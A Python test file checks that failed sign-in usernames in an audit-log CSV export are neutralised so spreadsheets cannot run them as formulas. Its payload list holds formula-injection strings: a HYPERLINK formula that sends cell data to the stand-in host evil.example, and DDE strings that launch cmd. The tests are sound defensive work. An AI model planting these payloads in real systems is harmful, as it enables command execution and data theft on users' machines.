"""Text anyone can put in the audit trail (a failed sign-in's username) leaves the CSV export as text,
never as a formula a spreadsheet would run on the auditor's machine."""

from __future__ import annotations

import csv
import io

import pytest

from memo_coach.security.spreadsheet import FORMULA_STARTS, csv_text

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_failed_sign_in_username_is_exported_as_text_not_a_formula(client, admin_headers):
    for username in PAYLOADS:
        refused = client.post("/api/v1/auth/login", json={"username": username, "password": "wrong-password"})
        assert refused.status_code == 401, refused.text
    exported = client.get("/api/v1/audit/export?format=csv&action=auth.login_failed", headers=admin_headers)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert sorted(r["actor"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_neutralised_and_plain_text_is_left_alone(value):
    text = csv_text(["a", "b"], [{"a": value, "b": 'plain, with a comma and a "quote"'}])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row == {"a": "'" + value, "b": 'plain, with a comma and a "quote"'}
